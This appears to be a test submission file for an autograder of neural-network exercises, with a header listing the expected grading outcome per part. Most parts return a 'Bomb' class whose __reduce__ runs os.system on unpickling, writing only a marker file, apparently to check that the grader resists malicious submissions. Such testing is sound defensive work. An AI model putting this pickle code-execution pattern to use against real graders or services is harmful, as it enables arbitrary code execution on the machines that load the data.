# /// attack
# tries = "returns objects that would run code when unpickled, and pickles of them"
# total = 2
# [parts]
# 2d = "right"
# 1a = "wrong"
# 1d = "wrong"
# 2b = "unreadable"
# 3b = "unreadable"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("echo @MARK@ > /tmp/@MARK@-pickle",)

    def __array__(self, *_, **__):
        import numpy as np

        return np.array([self], dtype=object)


def aufgabe_1a(x, w, b, s, o, sigma, dsigma):
    return Bomb()


def aufgabe_1d(x, w, b, s, o, sigma, dsigma):
    return pickle.dumps(Bomb())


aufgabe_2b = pickle.dumps(Bomb())
aufgabe_3b = Bomb()
